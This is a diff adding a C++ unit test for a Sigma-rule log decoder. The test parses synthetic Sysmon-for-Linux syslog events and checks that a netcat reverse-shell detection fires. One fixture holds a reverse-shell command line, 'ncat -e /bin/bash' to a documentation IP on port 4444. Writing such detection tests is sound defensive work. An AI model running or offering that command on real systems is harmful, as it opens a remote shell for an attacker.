@@ -199,6 +199,48 @@ TEST_F(DecoderSigma, AuditdRecordsFireAuditdAndProcessCreationRules) {
     EXPECT_TRUE(preload);
 }
 
+// Sysmon for Linux sends Windows' Sysmon XML through syslog (tag "sysmon"): SigmaHQ's linux
+// process_creation, network_connection and file_event rules are written for it.
+TEST_F(DecoderSigma, SysmonForLinuxThroughSyslog) {
+    const auto sysmon = [](int id, const std::string& data) {
+        return "<14>Nov 20 03:30:01 srv01 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" "
+               "Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>" +
+               std::to_string(id) +
+               "</EventID><Version>5</Version><TimeCreated "
+               "SystemTime=\"2026-11-20T03:30:01.123456000Z\"/><EventRecordID>77</EventRecordID>"
+               "<Channel>Linux-Sysmon/Operational</Channel><Computer>srv01</Computer><Security "
+               "UserId=\"0\"/></System><EventData>" +
+               data + "</EventData></Event>";
+    };
+    std::vector<event::Event> events;
+    auto fired =
+        Fire({sysmon(1,
+                     "<Data Name=\"ProcessId\">4242</Data><Data Name=\"Image\">/usr/bin/ncat</Data>"
+                     "<Data Name=\"CommandLine\">ncat -e /bin/bash 198.51.100.9 4444</Data><Data "
+                     "Name=\"CurrentDirectory\">/tmp</Data><Data Name=\"User\">root</Data><Data "
+                     "Name=\"ParentImage\">/usr/bin/bash</Data><Data "
+                     "Name=\"ParentCommandLine\">bash</Data>")},
+             &events);
+    ASSERT_EQ(events.size(), 1u);
+    EXPECT_EQ(events[0].logsource.product, "linux");
+    EXPECT_TRUE(events[0].logsource.HasCategory("process_creation"));
+    EXPECT_EQ(events[0].Get("Image"), "/usr/bin/ncat");
+    EXPECT_EQ(events[0].Get("host"), "srv01");
+    EXPECT_EQ(FormatTimestamp(events[0].time_ns), "2026-11-20T03:30:01.123Z");
+    EXPECT_TRUE(fired.count("7f734ed0-4f47-46c0-837f-6ee62505abd9"));  // netcat reverse shell
+    // A file created: file_event; XML that is not an event stays a syslog line.
+    Fire({sysmon(11,
+                 "<Data Name=\"Image\">/usr/bin/curl</Data><Data "
+                 "Name=\"TargetFilename\">/etc/cron.d/job</Data>"),
+          "<14>Nov 20 03:30:02 srv01 sysmon: <Event><System>"},
+         &events);
+    ASSERT_EQ(events.size(), 2u);
+    EXPECT_TRUE(events[0].logsource.HasCategory("file_event"));
+    EXPECT_EQ(events[0].Get("TargetFilename"), "/etc/cron.d/job");
+    EXPECT_EQ(events[1].logsource.product, "linux");
+    EXPECT_EQ(events[1].logsource.service, "syslog");
+}
+
 TEST_F(DecoderSigma, FirewallDnsAndProxy) {
     // Telnet let through: net_firewall_cleartext_protocols.
     EXPECT_TRUE(Fire({"Nov 20 04:00:00 gw kernel: [ 99.1] FW-ACCEPT IN=eth0 OUT=eth1 "
